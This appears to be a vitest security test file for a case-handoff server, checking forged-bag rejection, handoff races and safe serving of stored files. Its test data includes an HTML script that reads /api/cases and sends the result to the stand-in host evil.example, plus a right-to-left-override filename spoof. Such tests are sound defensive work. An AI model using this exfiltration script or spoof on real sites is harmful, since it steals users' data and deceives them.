import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createHash, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STORED_FILE_CSP } from '@tongban/server/materials/sendStoredFile';
import { sniffMediaType } from '@tongban/server/materials/mediaType';
import { bagOffice } from '@tongban/server/handoff/caseBag';
import { ApiClient, type TestServer } from '../support/testServer';
import { acceptedCase, storeBlob } from '../support/handoffCase';
import { ITEM_SC, PNG_1PX } from '../support/caseFixtures';
import { forgeCaseBag, postSignedBag, startTwoSites } from '../support/twoSites';

/**
 * A peer's bag is checked for what it says, not only for who signed it; stored bytes are served
 * for what they are; two handoffs or transfers at once leave one coherent record.
 */
let gd: TestServer;
let hn: TestServer;
let tmp: string;
/** Accepted at gd: the forged bags are made of it, then its real bag is transferred three times at once. */
let a: { caseId: string; caseNo: string; clerk: ApiClient };
/** Accepted at gd: handed off by courier twice at once, then online. */
let b: { caseId: string; caseNo: string; clerk: ApiClient };

const HTML = Buffer.from('<!doctype html><script>fetch("/api/cases").then(r=>r.text()).then(t=>fetch("//evil.example/?"+t))</script>');
const sha = (buf: Buffer) => createHash('sha256').update(buf).digest('hex');
const postFromGd = (bytes: Buffer, idempotencyKey: string) =>
  postSignedBag(hn, bytes, { key: gd.ctx.handoff.keys, site: 'gd', idempotencyKey });

beforeAll(async () => {
  ({ gd, hn } = await startTwoSites({ gd: { OCR_WORKERS: 1 } }));
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hardening-handoff-'));
  a = await acceptedCase(gd);
  b = await acceptedCase(gd);
});
afterAll(async () => {
  await gd?.stop();
  await hn?.stop();
  fs.rmSync(tmp, { recursive: true, force: true });
});

function expectNothingImported(caseId: string, caseNo: string): void {
  const { db } = hn.ctx;
  expect(hn.ctx.cases.findByCaseNo(caseNo)).toBeUndefined();
  expect(db.prepare('SELECT COUNT(*) FROM case_materials WHERE case_id = ?').pluck().get(caseId)).toBe(0);
  expect(db.prepare('SELECT COUNT(*) FROM transfers WHERE case_id = ?').pluck().get(caseId)).toBe(0);
  expect(db.prepare("SELECT COUNT(*) FROM users WHERE username LIKE 'peer-%'").pluck().get()).toBe(0);
  expect(hn.ctx.ledger.forCase(caseId)).toEqual([]);
}

describe('a validly signed bag is still checked for what it says', () => {
  it('refuses lying case.json contents with coded 422s naming the field or file, importing nothing', async () => {
    const ghost = await storeBlob(hn, PNG_1PX, 'image/png'); // a scan hn holds for some other case
    const firstMaterial = (j: any) => j.materials[0];
    const asHtml = (j: any, payload: any[]) => {
      const m = firstMaterial(j);
      const i = payload.findIndex((p) => `data/${p.path}` === m.path);
      payload[i] = { path: payload[i].path, content: HTML };
      Object.assign(m, { sha256: sha(HTML), size: HTML.length });
    };
    const cases: Array<{ name: string; edit: Parameters<typeof forgeCaseBag>[3]; code: string; details: Record<string, unknown> }> = [
      {
        name: 'material declared text/html',
        edit: ({ caseJson, payload }) => {
          asHtml(caseJson, payload);
          firstMaterial(caseJson).mediaType = 'text/html';
        },
        code: 'BAG_CASE_INVALID',
        details: { file: 'data/case.json', path: 'materials.0.mediaType' },
      },
      {
        name: 'HTML bytes declared image/png',
        edit: ({ caseJson, payload }) => {
          asHtml(caseJson, payload);
          firstMaterial(caseJson).mediaType = 'image/png';
        },
        code: 'BAG_MATERIAL_TYPE_MISMATCH',
        details: { declared: 'image/png', sniffed: null },
      },
      {
        name: 'material whose path is not in the payload',
        edit: ({ caseJson }) => {
          caseJson.materials.push({
            ...firstMaterial(caseJson),
            id: randomUUID(),
            fileName: 'ghost.png',
            mediaType: 'image/png',
            size: ghost.size,
            sha256: ghost.sha256,
            path: 'data/materials/99-ghost.png',
          });
        },
        code: 'BAG_MATERIAL_NOT_IN_PAYLOAD',
        details: { file: 'data/materials/99-ghost.png' },
      },
      {
        name: 'handling office not the item’s',
        edit: ({ caseJson }) => {
          caseJson.case.handlingOfficeId = 'sc-cd-office';
          caseJson.offices.handling = bagOffice(hn.ctx.catalog.getOffice('sc-cd-office'));
        },
        code: 'BAG_OFFICE_MISMATCH',
        details: { path: 'case.handlingOfficeId', officeId: 'sc-cd-office' },
      },
      {
        name: 'item and handling office of another site',
        edit: ({ caseJson }) => {
          caseJson.case.itemCode = caseJson.item.code = ITEM_SC;
          caseJson.case.handlingOfficeId = 'sc-cd-office';
          caseJson.offices.handling = bagOffice(hn.ctx.catalog.getOffice('sc-cd-office'));
        },
        code: 'BAG_OFFICE_MISMATCH',
        details: { path: 'case.handlingOfficeId' },
      },
      {
        name: 'intake office not the sender’s',
        edit: ({ caseJson }) => {
          caseJson.case.intakeOfficeId = 'hn-cs-office';
          caseJson.offices.intake = bagOffice(hn.ctx.catalog.getOffice('hn-cs-office'));
        },
        code: 'BAG_OFFICE_MISMATCH',
        details: { path: 'case.intakeOfficeId' },
      },
      {
        name: 'handling office hosted by another site than the registry here says',
        edit: ({ caseJson }) => {
          caseJson.offices.handling.siteId = 'sc';
        },
        code: 'BAG_OFFICE_MISMATCH',
        details: { path: 'offices.handling.siteId', officeId: 'hn-cs-office' },
      },
      {
        name: 'no applicant',
        edit: ({ caseJson }) => {
          delete caseJson.case.applicant;
        },
        code: 'BAG_CASE_INVALID',
        details: { path: 'case.applicant' },
      },
      {
        name: 'an applicant name with control characters',
        edit: ({ caseJson }) => {
          caseJson.case.applicant.name = '王浩然\u202egpj.exe';
        },
        code: 'BAG_CASE_INVALID',
        details: { path: 'case.applicant.name' },
      },
      {
        name: 'a field case creation does not know',
        edit: ({ caseJson }) => {
          caseJson.case.role = 'admin';
        },
        code: 'BAG_CASE_INVALID',
        details: { path: 'case' },
      },
    ];
    for (const [i, c] of cases.entries()) {
      const bytes = await forgeCaseBag(gd, a.caseId, path.join(tmp, `forged-${i}.zip`), c.edit);
      const r = await postFromGd(bytes, `forged-${i}`);
      expect([c.name, r.status, r.body.error?.code]).toEqual([c.name, 422, c.code]);
      expect(r.body.error.details, c.name).toMatchObject(c.details);
      expectNothingImported(a.caseId, a.caseNo);
    }
  });

  it('BAG_ZIP_UNREADABLE tells the peer no path of this machine', async () => {
    const r = await postFromGd(Buffer.from('this is not a zip file at all'), 'not-a-zip');
    expect([r.status, r.body.error.code]).toEqual([422, 'BAG_ZIP_UNREADABLE']);
    const text = JSON.stringify(r.body);
    for (const leak of [hn.dataDir, os.tmpdir(), 'transfer-']) expect(text).not.toContain(leak);
    expect(r.body.error.details.file).toBe('bag.zip');
  });
});

describe('races', () => {
  it('two courier handoffs at once: one 200, one 409, and one bag that panel, bag.zip and audit agree on', async () => {
    const [r1, r2] = await Promise.all([
      b.clerk.post(`/api/cases/${b.caseId}/handoff/courier`, { courierCompany: '顺丰速运', waybillNo: 'SF1111111111' }),
      b.clerk.post(`/api/cases/${b.caseId}/handoff/courier`, { courierCompany: '中国邮政EMS', waybillNo: 'EMS2222222222' }),
    ]);
    const [won, lost] = r1.status === 200 ? [r1, r2] : [r2, r1];
    expect([won.status, lost.status, lost.body.error?.code]).toEqual([200, 409, 'HANDOFF_ALREADY_HANDED_OFF']);
    const { db } = gd.ctx;
    expect(db.prepare('SELECT COUNT(*) FROM handoff_bags WHERE case_id = ?').pluck().get(b.caseId)).toBe(1);
    const events = gd.ctx.ledger.forCase(b.caseId).filter((e) => e.action === 'case.hand_off');
    expect(events).toHaveLength(1);
    const panel = (await b.clerk.get(`/api/cases/${b.caseId}/handoff`)).body.handoff;
    expect(panel).toMatchObject({ waybillNo: won.body.handoff.waybillNo, bagSha256: events[0]!.details.bagSha256 });
    expect(events[0]!.details).toMatchObject({ waybillNo: won.body.handoff.waybillNo });
    const zip = await b.clerk.get(`/api/cases/${b.caseId}/handoff/bag.zip`);
    expect(sha(Buffer.from(zip.body as ArrayBuffer))).toBe(events[0]!.details.bagSha256);
  });

  it('three transfers of one bag at once under different keys: one 200, two TRANSFER_CASE_EXISTS', async () => {
    const file = path.join(tmp, 'a.zip');
    await gd.ctx.handoff.bags.writeBag(a.caseId, 'online', fs.createWriteStream(file));
    const bytes = fs.readFileSync(file);
    const answers = await Promise.all(['k1', 'k2', 'k3'].map((k) => postFromGd(bytes, k)));
    const statuses = answers.map((r) => [r.status, r.body.error?.code ?? null]).sort();
    expect(statuses).toEqual([
      [200, null],
      [409, 'TRANSFER_CASE_EXISTS'],
      [409, 'TRANSFER_CASE_EXISTS'],
    ]);
    const { db } = hn.ctx;
    expect(db.prepare('SELECT COUNT(*) FROM cases WHERE case_no = ?').pluck().get(a.caseNo)).toBe(1);
    expect(db.prepare("SELECT COUNT(*) FROM transfers WHERE direction = 'in' AND case_id = ?").pluck().get(a.caseId)).toBe(1);
    expect(hn.ctx.ledger.forCase(a.caseId).map((e) => e.action)).toEqual(['handoff.received', 'case.start_handling']);
  });
});

describe('serving stored bytes', () => {
  it('a received scan is served with its sniffed type, a disposition, nosniff and a sandboxing CSP — whatever its row says', async () => {
    const reviewer = await ApiClient.login(hn.url, 'reviewer');
    const [m] = hn.ctx.materials.list(a.caseId);
    const original = gd.ctx.materials.get(a.caseId, m!.id);
    // Even a row that claims HTML (an old import, a bad migration) is served for what the bytes are.
    hn.ctx.db.prepare("UPDATE case_materials SET media_type = 'text/html', file_name = ? WHERE id = ?").run('扫描件 "1".html', m!.id);
    const r = await reviewer.get(`/api/cases/${a.caseId}/materials/${m!.id}/content`);
    expect(r.status).toBe(200);
    const bytes = Buffer.from(r.body as ArrayBuffer);
    expect(sha(bytes)).toBe(original.sha256);
    expect(r.headers.get('content-type')).toBe(sniffMediaType(bytes));
    expect(r.headers.get('content-type')).toBe(original.mediaType);
    expect(r.headers.get('x-content-type-options')).toBe('nosniff');
    expect(r.headers.get('content-security-policy')).toBe(STORED_FILE_CSP);
    expect(r.headers.get('content-disposition')).toBe(
      `inline; filename="___ _1_.html"; filename*=UTF-8''${encodeURIComponent('扫描件 "1".html')}`,
    );
  });

  it('bytes that are no scan are an attachment of opaque type; bag.zip and the cover sheet carry the same headers', async () => {
    const { db } = gd.ctx;
    const html = await storeBlob(gd, HTML, 'text/html');
    const [m] = gd.ctx.materials.list(b.caseId);
    db.prepare('UPDATE case_materials SET sha256 = ?, size = ? WHERE id = ?').run(html.sha256, html.size, m!.id);
    const r = await b.clerk.get(`/api/cases/${b.caseId}/materials/${m!.id}/content`);
    expect(r.headers.get('content-type')).toBe('application/octet-stream');
    expect(r.headers.get('content-disposition')).toMatch(/^attachment; /);
    expect(r.headers.get('content-security-policy')).toBe(STORED_FILE_CSP);

    const zip = await b.clerk.get(`/api/cases/${b.caseId}/handoff/bag.zip`);
    expect([zip.headers.get('content-type'), zip.headers.get('content-disposition')]).toEqual([
      'application/zip',
      `attachment; filename="${b.caseNo}.zip"; filename*=UTF-8''${b.caseNo}.zip`,
    ]);
    const cover = await b.clerk.get(`/api/cases/${b.caseId}/handoff/cover.pdf`);
    expect([cover.headers.get('content-type'), cover.headers.get('content-security-policy')]).toEqual(['application/pdf', STORED_FILE_CSP]);
    expect(cover.headers.get('content-disposition')).toMatch(/^inline; /);
  });
});

describe('handoff refusals name the state', () => {
  it('a case already in handling is refused as in handling, not as "not accepted yet"', async () => {
    const online = await b.clerk.post(`/api/cases/${b.caseId}/handoff/transfer`);
    expect(online.status, JSON.stringify(online.body)).toBe(200);
    expect(gd.ctx.cases.get(b.caseId).state).toBe('in_handling');
    const again = await b.clerk.post(`/api/cases/${b.caseId}/handoff/transfer`);
    expect([again.status, again.body.error.code]).toEqual([409, 'HANDOFF_CASE_IN_HANDLING']);
    const courier = await b.clerk.post(`/api/cases/${b.caseId}/handoff/courier`, { courierCompany: '顺丰速运', waybillNo: 'SF3333333333' });
    expect([courier.status, courier.body.error.code]).toEqual([409, 'HANDOFF_CASE_IN_HANDLING']);
    expect(courier.body.error.message_zh).toContain('办理中');
  });
});
